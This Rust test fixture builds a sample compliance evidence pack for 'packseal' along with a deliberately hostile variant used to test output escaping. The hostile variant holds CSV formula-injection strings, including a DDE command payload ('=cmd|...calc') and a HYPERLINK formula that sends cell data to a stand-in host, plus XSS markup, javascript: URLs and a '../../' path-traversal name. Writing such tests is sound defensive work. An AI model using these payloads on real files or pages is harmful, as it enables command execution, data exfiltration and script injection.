//! A pack as DriftWise's recipe makes one, in facts; and one whose every text is hostile.

use packseal::controls::{
    CARRIED, Catalogue, EntryFact, Facts, Mapping, MappingLine, Pbc, SectionFact, Span, Strength, Target,
};
use packseal::model::digest::Digest;

pub(super) fn catalogue(id: &str) -> Catalogue {
    let (_, text) = CARRIED.into_iter().find(|(name, _)| *name == id).unwrap();
    Catalogue::parse(text.as_bytes()).unwrap()
}

pub(super) fn entry(name: &str, section: Option<&str>, rows: Option<u64>) -> EntryFact {
    let section = section.map(str::to_owned);
    EntryFact {
        name: name.to_owned(),
        bytes: 1_000 + name.len() as u64,
        sha256: Digest::of(name.as_bytes()),
        section,
        rows,
    }
}

pub(super) fn section(id: &str, rows: Option<u64>) -> SectionFact {
    let day = |text: &str| Some(text.to_owned());
    SectionFact {
        id: id.to_owned(),
        title: id.replace('_', " "),
        span: Span::Period(day("2026-07-01T00:00:00Z"), day("2026-10-01T00:00:00Z")),
        population: rows,
        included: rows,
        truncated: rows.map(|_| false),
        gap: None,
    }
}

/// `section:NAME` or an entry's name, with its strength: the first letter of the word.
pub(super) fn line(framework: &str, control: &str, target: &str, strength: &str) -> MappingLine {
    MappingLine {
        framework: framework.to_owned(),
        control: control.to_owned(),
        target: match target.strip_prefix("section:") {
            Some(id) => Target::Section(id.to_owned()),
            None => Target::Entry(target.to_owned()),
        },
        strength: Strength::ALL.into_iter().find(|one| one.name().starts_with(strength)).unwrap(),
        note: None,
    }
}

/// The vendor's own statement of frameworks, as a recipe would carry it, and what follows from it for Annex A.
fn lines() -> Vec<MappingLine> {
    let mut lines = vec![
        line("soc2", "CC7.1", "section:scans", "direct"),
        line("soc2", "CC7.1", "section:state_sources", "partial"),
        line("soc2", "CC7.1", "coverage_monthly.csv", "supporting"),
        line("soc2", "CC7.2", "section:scans", "direct"),
        line("soc2", "CC7.2", "coverage_monthly.csv", "supporting"),
        line("soc2", "CC7.3", "findings.csv", "direct"),
        line("soc2", "CC7.3", "remediation_sla.csv", "supporting"),
        line("soc2", "CC8.1", "chain-attestation.json", "supporting"),
        line("soc2", "CC8.1", "findings.csv", "direct"),
        line("soc2", "CC8.1", "section:custom_rules", "partial"),
        line("iso27001", "A.8.9", "section:scans", "direct"),
        line("iso27001", "A.8.9", "section:state_sources", "supporting"),
        line("iso27001", "A.8.15", "chain-attestation.json", "partial"),
        line("iso27001", "A.8.16", "section:scans", "supporting"),
        line("iso27001", "A.8.32", "findings.csv", "supporting"),
        line("iso27001", "A.5.26", "remediation_sla.csv", "partial"),
    ];
    lines[5].note = Some("column resolution".to_owned());
    lines[7].note = Some("excerpt of the audit log's chain".to_owned());
    lines
}

const LIST: &str = "\u{feff}PBC #;Request;TSC;Due Date\r\n\
    12;Population of scans for the period;CC7.2;2026-11-30\r\n\
    13;\"Incident list, with how each was resolved\";findings.csv;2026-11-30\r\n\
    14;Restore test of the last quarter;A1.2, A1.3;2026-12-04\r\n\
    15;Response plan and last exercise;CC7.4;\r\n\
    16;Where Terraform state is kept;state_sources.csv;2026-12-04\r\n";

/// A quarter of DriftWise.
pub(super) fn driftwise() -> Facts {
    let entries = vec![
        entry("data.json", None, None),
        entry("coverage_monthly.csv", Some("scans"), Some(3)),
        entry("findings.csv", Some("findings"), Some(306)),
        entry("scans.csv", Some("scans"), Some(1_204)),
        entry("remediation_sla.csv", Some("findings"), Some(4)),
        entry("state_sources.csv", Some("state_sources"), Some(7)),
        entry("chain-attestation.json", Some("chain"), None),
        entry("COMPLETENESS.csv", None, Some(5)),
    ];
    let mut sections = vec![
        section("scans", Some(1_204)),
        section("findings", Some(310)),
        section("state_sources", Some(7)),
        section("custom_rules", None),
        section("chain", None),
    ];
    for (one, title) in
        sections.iter_mut().zip(["Scans", "Findings", "State sources", "Custom rules", "Chain attestation"])
    {
        one.title = title.to_owned();
    }
    sections[1].included = Some(306);
    sections[1].truncated = Some(true);
    sections[2].span = Span::AsOf("2026-11-20T10:15:00Z".to_owned());
    sections[3].span = Span::None;
    sections[3].gap = Some("the server answered 403 to GET /custom-rules".to_owned());
    sections[4].span = Span::AsOf("2026-11-20T10:15:00Z".to_owned());
    let day = |text: &str| Some(text.to_owned());
    Facts {
        title: "DriftWise compliance pack".to_owned(),
        organisation: "Orchid Ledger Ltd".to_owned(),
        pack_id: "orchid-ledger-20261120T101500Z-7c9e6679".to_owned(),
        period: (day("2026-07-01"), day("2026-09-30")),
        producer: "packseal 0.0.0".to_owned(),
        claimed_at: "2026-11-20T10:15:00.482000Z".to_owned(),
        entries,
        sections,
        catalogues: vec![catalogue("soc2"), catalogue("iso27001")],
        mapping: Mapping::of_recipe("driftwise-compliance-pack", "1", lines()),
        pbc: Some(Pbc::parse(LIST.as_bytes()).unwrap()),
    }
}

/// Beginnings and middles that one spreadsheet or another takes for formulas or for the end of a cell.
pub(super) const LIVE: [&str; 34] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\u{1}=1+1",
    "\u{b}=1+1",
    "\u{c}+1+1",
    " =1+1",
    "   -1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\u{feff}=1+1",
    "\u{2066}@x",
    "\u{ad}=1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "\u{2212}1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "x;=1+1",
    "x;=1+1;y",
    "x\t=1+1",
    "x\r\n=1+1",
    "x\n \t@SUM(1)",
    "\"=1+1\"",
    "x; \"\"=1+1",
];

/// Every text that a file of others can bring is one of [`LIVE`] or markup.
pub(super) fn hostile() -> Facts {
    let mut facts = driftwise();
    let markup =
        "</style></title><script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover=\"alert(1)' \u{202e}&amp;";
    facts.title = markup.to_owned();
    facts.organisation = markup.to_owned();
    facts.pack_id = markup.to_owned();
    facts.producer = markup.to_owned();
    facts.claimed_at = markup.to_owned();
    facts.period = (Some(markup.to_owned()), None);
    facts.mapping.name = markup.to_owned();
    facts.mapping.version = "=1+1".to_owned();
    for line in &mut facts.mapping.lines {
        line.note = Some(format!("=NOTE()\u{202e}{markup}"));
    }
    facts.mapping.lines.push(line("gdpr", markup, markup, "direct"));
    facts.mapping.lines.push(line("soc2", "CC7.2", "javascript:alert(1).csv", "direct"));
    facts.mapping.lines.push(line("soc2", "CC7.2", "section:=absent()", "partial"));
    facts.mapping.lines.push(line("soc2", "CC7.2", "page.html", "direct"));
    facts.mapping.lines.push(line("soc2", "CC7.2", "../../up.csv", "direct"));
    facts.entries.push(entry("javascript:alert(1).csv", Some("findings"), None));
    facts.entries.push(entry("page.html", None, None));
    facts.entries.push(entry("../../up.csv", None, None));
    facts.sections[0].title = markup.to_owned();
    facts.sections[1].gap = Some("-gap\n=1+1".to_owned());
    facts.sections[2].span = Span::AsOf("=NOW()".to_owned());
    facts.catalogues[1].title = "@ISO".to_owned();
    facts.catalogues[1].edition = markup.to_owned();
    facts.catalogues[1].controls[0].id = "=A1".to_owned();
    facts.catalogues[1].controls[0].about = "+about".to_owned();
    facts.catalogues[1].controls[0].in_scope = true;
    // The list's own reader trims, so its texts are put in here as no list could have them.
    if let Some(pbc) = &mut facts.pbc {
        for request in &mut pbc.requests {
            request.number = format!("-{}", request.number);
        }
        let spare = pbc.requests[2].clone();
        pbc.requests.extend(LIVE.into_iter().enumerate().map(|(at, live)| {
            let mut request = spare.clone();
            request.number = format!("{live}{at}");
            request.description = live.to_owned();
            request.references = markup.to_owned();
            request.due = Some(live.to_owned());
            request
        }));
    }
    facts
}
